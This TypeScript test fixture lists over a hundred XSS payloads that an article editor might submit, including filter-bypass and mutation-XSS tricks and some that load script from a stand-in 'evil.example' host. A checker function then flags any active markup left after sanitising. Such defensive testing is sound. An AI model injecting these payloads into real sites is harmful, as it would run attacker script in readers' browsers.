/**
 * The XSS set of the content area: HTML an editor might save as an article's body (pasted, or sent to the API
 * directly) that would run script in a reader's browser if any of it survived. Every payload sets a flag the checks
 * read — `window.__xss = 1` — or opens a dialog (`alert(1)`, where the script would run in another document: a data:
 * URL, a frame). The server's sanitiser (apps/server/src/platform/rich-text.ts) must leave none of it active
 * (apps/server/test/content-xss.test.ts), and the pages that show an article must run none of it
 * (e2e/tests/19-content-2-xss.spec.ts).
 *
 * No vector keeps an <img> of the portal's own public files (/japi/api/attachment/fileManager/publicFile?fileId=…)
 * intact: an article may only show images it owns, so a made-up file id would be refused on save.
 */

/** What a payload runs in the page's own window. */
const X = 'window.__xss=1';
/** The same, as HTML character references (an attribute's value is decoded before it runs). */
const X_ENTITIES = [...X].map((c) => `&#${c.charCodeAt(0)};`).join('');
const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
/** A document of its own (a data: URL): only a dialog shows that it ran. */
const ALERT_DOC = '<script>alert(1)</script>';

export const XSS_VECTORS: string[] = [
  // --- script elements, plain and disguised ---
  `<script>${X}</script>`,
  `<SCRIPT>${X}</SCRIPT>`,
  `<ScRiPt type="text/javascript">${X}</sCrIpT>`,
  `<script type="module">${X}</script>`,
  `<script src="data:text/javascript,${X}"></script>`,
  `<script src="https://evil.example/x.js"></script><script>${X}</script>`,
  `<script>/*</script>*/${X}</script>`,
  `<scr<script>ipt>${X}</scr</script>ipt>`,
  `<<script>script>${X}<</script>/script>`,
  `<script\n>${X}</script\n>`,
  `<script defer async>${X}</script>`,
  `<script>eval(atob('${b64(X)}'))</script>`,
  // --- event handlers on images and media ---
  `<img src=x onerror="${X}">`,
  `<img src=x onerror=${X}>`,
  `<IMG SRC=x OnErRoR=${X}>`,
  `<img src="x" onerror="${X_ENTITIES}">`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<img src=/ onerror=${X}>`,
  `<img/src=x/onerror=${X}>`,
  `<img src=x onerror\n=${X}>`,
  `<img src=\`x\` onerror=${X}>`,
  `<img src=x onerror='${X}' <`,
  `<img src=x onerror=${X}//`,
  `<img """><script>${X}</script>">`,
  `<img src="javascript:${X}">`,
  `<img src="https://evil.example/pixel.png" onload="${X}" onerror="${X}">`,
  `<img src="//evil.example/pixel.png" onerror="${X}">`,
  `<img src="http://127.0.0.1:1/x.png" onerror="${X}">`,
  `<img srcset="https://evil.example/a.png 1x, javascript:${X} 2x" src=x onerror="${X}">`,
  `<img src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${X}"/>`)}" onerror="${X}">`,
  `<img src="/japi/api/attachment/fileManager/publicFile?fileId=abc&quot; onerror=&quot;${X}">`,
  `<img src="/japi/api/attachment/fileManager/publicFile?fileId=abc onerror=${X}">`,
  `<img src=x onerror="window['__xss']=1">`,
  `<img src=x onerror="setTimeout('${X}')">`,
  `<img src=x onerror="top.__xss=1">`,
  `<img src=x onerror="eval(atob('${b64(X)}'))">`,
  `<picture><source srcset="x" onerror="${X}"><img src=x onerror="${X}"></picture>`,
  `<input type="image" src=x onerror="${X}">`,
  `<video src=x onerror="${X}"></video>`,
  `<video><source onerror="${X}"></video>`,
  `<video poster="javascript:${X}" onloadstart="${X}" src=x></video>`,
  `<audio src=x onerror="${X}"></audio>`,
  `<image src=x onerror="${X}">`,
  // --- SVG and MathML ---
  `<svg onload="${X}">`,
  `<svg/onload=${X}>`,
  `<svg><script>${X}</script></svg>`,
  `<svg><script href="data:,${X}"></script></svg>`,
  `<svg><animate onbegin="${X}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><set attributeName="onload" to="${X}"></set></svg>`,
  `<svg><a xlink:href="javascript:${X}"><text x="20" y="20">点我</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror="${X}"></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${X}></style></svg>`,
  `<svg><image href="x" onerror="${X}"></image></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${X}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${X}">点我</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${X}">点我</maction></math>`,
  `<math><mi xlink:href="data:text/html;base64,${b64(ALERT_DOC)}">点我</mi></math>`,
  // --- frames, objects and embeds ---
  `<iframe src="javascript:${X}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.window.__xss=1&lt;/script&gt;"></iframe>`,
  `<iframe src="data:text/html,${ALERT_DOC}"></iframe>`,
  `<iframe onload="${X}"></iframe>`,
  `<IFRAME SRC="javascript:${X}" width=1 height=1></IFRAME>`,
  `<object data="javascript:${X}"></object>`,
  `<object data="data:text/html;base64,${b64(ALERT_DOC)}"></object>`,
  `<object type="text/html" data="data:text/html,${ALERT_DOC}" onerror="${X}"></object>`,
  `<embed src="javascript:${X}">`,
  `<embed src="data:text/html,${ALERT_DOC}">`,
  `<embed type="image/svg+xml" src="data:image/svg+xml;base64,${b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')}">`,
  `<frameset onload="${X}"><frame src="javascript:${X}"></frameset>`,
  `<frame src="javascript:${X}">`,
  `<applet code="javascript:${X}"></applet>`,
  // --- meta, base, link, style ---
  `<meta http-equiv="refresh" content="0;url=javascript:${X}">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(ALERT_DOC)}">`,
  `<meta charset="x-imap4-modified-utf7"><img src=x onerror="${X}">`,
  `<base href="javascript:${X}//">`,
  `<base href="https://evil.example/"><a href="x" onclick="${X}">相对链接</a>`,
  `<link rel="stylesheet" href="javascript:${X}">`,
  `<link rel="import" href="data:text/html,${ALERT_DOC}">`,
  `<style>@import 'javascript:${X}';</style>`,
  `<style>body{background:url("javascript:${X}")}</style>`,
  `<style onload="${X}"></style>`,
  `<style>*{x:expression(${X})}</style>`,
  `<div style="background-image:url(javascript:${X})">样式</div>`,
  `<div style="width:expression(${X})">样式</div>`,
  `<p style="color:red;background:url('javascript:${X}')">样式</p>`,
  `<span style="x:expression(${X})">样式</span>`,
  `<div style="behavior:url(https://evil.example/x.htc)" onmouseenter="${X}">样式</div>`,
  `<p style="text-align:center;background:url(javascript:${X})">居中</p>`,
  `<span onanimationstart="${X}" style="animation-name:x">动画</span>`,
  // --- forms ---
  `<form action="javascript:${X}"><input type="submit" value="提交"></form>`,
  `<form><button formaction="javascript:${X}">提交</button></form>`,
  `<form id="xss-form"></form><button form="xss-form" formaction="javascript:${X}">提交</button>`,
  `<form><input type="submit" formaction="javascript:${X}" value="提交"></form>`,
  `<isindex action="javascript:${X}" type="image">`,
  `<input onfocus="${X}" autofocus>`,
  `<select onfocus="${X}" autofocus><option>1</option></select>`,
  `<textarea onfocus="${X}" autofocus></textarea>`,
  `<keygen onfocus="${X}" autofocus>`,
  `<button onclick="${X}">点我</button>`,
  // --- handlers on ordinary rich-text tags and unknown ones ---
  `<details open ontoggle="${X}"><summary>详情</summary></details>`,
  `<marquee onstart="${X}">滚动</marquee>`,
  `<body onload="${X}">`,
  `<body onpageshow="${X}">`,
  `<div onmouseover="${X}">悬停</div>`,
  `<div/onmouseover='${X}'>悬停</div>`,
  `<h1 onclick="${X}">标题</h1>`,
  `<p onpointerenter="${X}">段落</p>`,
  `<ul><li onclick="${X}">项</li></ul>`,
  `<table onmouseover="${X}"><tr><td>表格</td></tr></table>`,
  `<table background="javascript:${X}"><tr><td background="javascript:${X}" onclick="${X}">单元格</td></tr></table>`,
  `<blockquote cite="javascript:${X}" onclick="${X}">引用</blockquote>`,
  `<x onclick="${X}">点我</x>`,
  `<custom-tag onfocus="${X}" tabindex="1" autofocus>自定义</custom-tag>`,
  `<span tabindex="1" onfocus="${X}" autofocus>聚焦</span>`,
  `<p title="</p><img src=x onerror=${X}>">属性</p>`,
  // --- links ---
  `<a href="javascript:${X}">链接</a>`,
  `<a href="JaVaScRiPt:${X}">链接</a>`,
  `<a href=javascript:${X}>链接</a>`,
  `<a href=" javascript:${X}">链接</a>`,
  `<a href="java\tscript:${X}">链接</a>`,
  `<a href="java\nscript:${X}">链接</a>`,
  `<a href="java&#x09;script:${X}">链接</a>`,
  `<a href="javascript&#58;${X}">链接</a>`,
  `<a href="javascript&colon;${X}">链接</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${X}">链接</a>`,
  `<a href="&#x6A;avascript:${X}">链接</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${X}">链接</a>`,
  `<a href="vbscript:${X}">链接</a>`,
  `<a href="data:text/html;base64,${b64(ALERT_DOC)}">链接</a>`,
  `<a href="data:text/html,${ALERT_DOC}">链接</a>`,
  `<a href="#" onclick="${X}">链接</a>`,
  `<a href="https://example.com/" onmouseover="${X}">链接</a>`,
  `<a href="https://example.com/" title="x&quot; onclick=&quot;${X}">链接</a>`,
  `<a href="javascript:${X}" target="_self">链接</a>`,
  `<a xlink:href="javascript:${X}">链接</a>`,
  // --- raw-text and inert containers that a second parse may reopen (mutation XSS) ---
  `<template><img src=x onerror="${X}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>"></noscript>`,
  `<noembed><img title="</noembed><img src=x onerror=${X}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${X}>"></noframes>`,
  `<xmp><img title="</xmp><img src=x onerror=${X}>"></xmp>`,
  `<textarea><img title="</textarea><img src=x onerror=${X}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${X}>"></title>`,
  `<iframe><img title="</iframe><img src=x onerror=${X}>"></iframe>`,
  // --- comments, CDATA, processing instructions ---
  `<!--<img src="--><img src=x onerror=${X}//">`,
  `<!-- --!><img src=x onerror=${X}>-->`,
  `<![CDATA[><img src=x onerror=${X}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${X}>`,
  `<!--[if gte IE 4]><script>${X}</script><![endif]-->`,
  // --- a polyglot ---
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
];

/** Elements that must never reach a reader: script, styles, frames, plug-ins, forms and their controls, foreign markup. */
const ACTIVE_TAGS = new Set([
  'script',
  'style',
  'link',
  'meta',
  'base',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'svg',
  'math',
  'form',
  'input',
  'button',
  'select',
  'textarea',
  'keygen',
  'isindex',
  'template',
  'noscript',
  'noembed',
  'noframes',
  'xmp',
  'title',
  'body',
  'video',
  'audio',
  'source',
  'picture',
  'image',
  'details',
  'marquee',
]);
/** Attributes whose value is a URL or a style (what a scheme or a CSS function could make active). */
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'background',
  'poster',
  'data',
  'cite',
  'dynsrc',
  'lowsrc',
]);
/** The only image source an article keeps: one of the portal's public files (see rich-text.ts). */
const PUBLIC_IMAGE_SRC = /^\/japi\/api\/attachment\/fileManager\/publicFile\?fileId=[A-Za-z0-9_-]+$/;

/** An attribute value as the browser reads it: character references decoded. */
function decoded(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;/gi, '\t')
    .replace(/&newline;/gi, '\n')
    .replace(/&quot;/gi, '"')
    .replace(/&apos;/gi, "'")
    .replace(/&lt;/gi, '<')
    .replace(/&gt;/gi, '>')
    .replace(/&amp;/gi, '&');
}

/**
 * What is still active in sanitised HTML, as readable findings ([] when nothing is). It reads the tags only: a
 * sanitiser's output escapes every `<` and `>` of text and of attribute values, so each `<…>` is a real tag, and text
 * such as "onclick=" or "javascript:" that a vector left behind is shown as text, never run.
 */
export function activeContentIn(html: string): string[] {
  const found: string[] = [];
  for (const tag of html.matchAll(/<\/?([A-Za-z][\w:-]*)([^>]*)>/g)) {
    const name = tag[1].toLowerCase();
    if (ACTIVE_TAGS.has(name)) found.push(`<${name}>`);
    for (const attr of tag[2].matchAll(/([^\s"'=<>/]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g)) {
      const attrName = attr[1].toLowerCase();
      const value = decoded((attr[2] ?? '').replace(/^["']|["']$/g, ''));
      // Browsers drop tabs, newlines and spaces inside a URL's scheme.
      const compact = [...value]
        .filter((c) => c.charCodeAt(0) > 0x20)
        .join('')
        .toLowerCase();
      if (attrName.startsWith('on')) found.push(`${name} ${attrName}=`);
      if (attrName === 'srcset') found.push(`${name} srcset`);
      if (URL_ATTRIBUTES.has(attrName) && /^(javascript|vbscript|data|livescript):/.test(compact)) {
        found.push(`${name} ${attrName}=${compact.slice(0, 40)}`);
      }
      if (attrName === 'style' && /expression\(|url\(|@import|behavior|javascript:/.test(compact)) {
        found.push(`${name} style=${compact.slice(0, 40)}`);
      }
      if (name === 'img' && attrName === 'src' && !PUBLIC_IMAGE_SRC.test(value))
        found.push(`img src=${value.slice(0, 60)}`);
    }
  }
  // Text keeps its `<` escaped: a bare one is markup the checks above could not read (an unclosed tag).
  if (html.replace(/<\/?[A-Za-z][\w:-]*[^>]*>/g, '').includes('<')) found.push('unclosed markup');
  return found;
}
